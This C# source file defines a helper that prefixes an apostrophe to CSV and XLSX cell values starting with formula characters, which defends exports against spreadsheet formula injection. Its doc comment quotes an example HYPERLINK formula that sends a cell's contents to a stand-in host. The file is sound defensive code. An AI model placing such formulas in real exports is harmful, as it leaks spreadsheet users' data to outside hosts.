using System.Text.RegularExpressions;

namespace Dakla06.ServiceDefaults.Exports;

/// <summary>
/// Neutralises spreadsheet formulas in text the system writes to a CSV or XLSX download (OWASP "CSV injection"): a value
/// that begins with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return gets a leading apostrophe, so a
/// spreadsheet shows it as text instead of evaluating <c>=HYPERLINK("http://x/?"&amp;A2)</c>. A plain number
/// (<c>-5</c>, <c>+84</c>, <c>-1,5</c>) stays as it is: it cannot run anything, and a numeric column must keep its numbers.
/// Every writer of a CSV or XLSX passes each text cell (headers included) through <see cref="Neutralise"/>.
/// </summary>
public static partial class SpreadsheetCell
{
    /// <summary>The value as it may stand in a cell: unchanged unless a spreadsheet would read it as a formula.</summary>
    public static string? Neutralise(string? value) =>
        value is { Length: > 0 } && StartsFormula(value[0]) && !PlainNumber().IsMatch(value) ? "'" + value : value;

    /// <summary>Every value of a row through <see cref="Neutralise"/>, in place; returns the same array.</summary>
    public static string?[] NeutraliseAll(string?[] values)
    {
        ArgumentNullException.ThrowIfNull(values);
        for (var i = 0; i < values.Length; i++)
        {
            values[i] = Neutralise(values[i]);
        }

        return values;
    }

    private static bool StartsFormula(char first) => first is '=' or '+' or '-' or '@' or '\t' or '\r';

    /// <summary>A signed integer or decimal (either separator, digit groups allowed), optionally with an exponent.</summary>
    [GeneratedRegex(@"^[+-]?(?:[0-9]+(?:[.,][0-9]+)*|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?$", RegexOptions.CultureInvariant)]
    private static partial Regex PlainNumber();
}
